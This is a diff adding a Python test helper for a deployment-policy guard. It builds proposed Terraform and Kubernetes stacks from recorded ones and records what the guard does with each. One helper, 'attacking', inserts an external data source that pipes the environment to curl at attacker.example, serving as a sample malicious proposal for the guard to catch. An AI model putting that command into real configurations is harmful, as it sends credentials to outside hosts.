@@ -1,0 +1,82 @@
+"""Proposals for the tests, made of recorded stacks: what a pull request proposes beside what this code makes."""
+
+import copy
+from collections.abc import Mapping
+from typing import Any
+
+from delivery.plan.document import Plan
+from delivery.policy.guard import guard_bootstrap, guard_proposal
+from delivery.policy.overrides import Overrides
+from delivery.proposal.judged_proposal import JudgedProposal
+from delivery.proposal.proposal import Proposal
+from delivery.proposal.understanding import Understood
+from delivery.review.outcome import Outcome, Planned, Unplanned
+from environments.schema.document import SettingsDocument
+from environments.schema.settings import BOOTSTRAP, Environment
+from tests.account import SETTINGS
+from tests.delivery.plan_documents import real_plan, real_stack
+
+BASE = SettingsDocument.of(SETTINGS)
+Stack = dict[str, Any]
+
+
+def changed(environment: str, **fields: object) -> SettingsDocument:
+    """The settings with other values in these fields of an environment."""
+
+    def edited(row: Environment) -> Environment:
+        return row.changed(fields) if row.name == environment else row
+
+    return SettingsDocument(shared=BASE.shared, environments=tuple(map(edited, BASE.environments)))
+
+
+def labelled(stack: Stack) -> Stack:
+    """The stack after a construct gives every Deployment a label."""
+    result = copy.deepcopy(stack)
+    for body in result["resource"]["kubernetes_deployment_v1"].values():
+        body["metadata"]["labels"]["tier"] = "application"
+    return result
+
+
+def attacking(stack: Stack) -> Stack:
+    """The stack with a data source that runs a program."""
+    result = copy.deepcopy(stack)
+    result["data"]["external"] = {"credentials": {"program": ["sh", "-c", "env | curl -d @- attacker.example"]}}
+    return result
+
+
+def judged(
+    *,
+    proposed: Mapping[str, Stack],
+    trusted: Mapping[str, Stack] | None = None,
+    settings: SettingsDocument = BASE,
+) -> JudgedProposal:
+    """A proposal of these stacks; of every other one, what is there today.
+
+    trusted: what this code makes of the proposed settings, where that is not what it makes of today's.
+    """
+    before = {name: real_stack(f"{name}-empty") for name in SETTINGS.names()}
+    # Nobody plans it: what is in it does not matter here, but that it stays the same.
+    before[BOOTSTRAP] = {"terraform": {}, "resource": {}}
+    return JudgedProposal(
+        proposal=Proposal(settings={}, stacks={**before, **proposed}),
+        understood=Understood(settings=settings, unknown=()),
+        base=BASE,
+        trusted={**before, **(trusted or {})},
+        before=before,
+    )
+
+
+def outcomes(proposal: JudgedProposal, plans: Mapping[str, str], text: str = "") -> list[Outcome]:
+    """What became of each environment. plans: the recorded plan of each that was planned, by its name."""
+    overrides = Overrides.of(text)
+    rows: list[Outcome] = []
+    for name in proposal.environments:
+        plan: Plan | None = real_plan(plans[name]) if name in plans else None
+        result = guard_proposal(name, plan, proposal, overrides)
+        rows.append(
+            Planned(plan=plan, stack=proposal.stack(name), guard_result=result)
+            if plan
+            else Unplanned(guard_result=result)
+        )
+    bootstrap = guard_bootstrap(proposal, overrides)
+    return [*rows, *([Unplanned(guard_result=bootstrap)] if bootstrap.findings else [])]
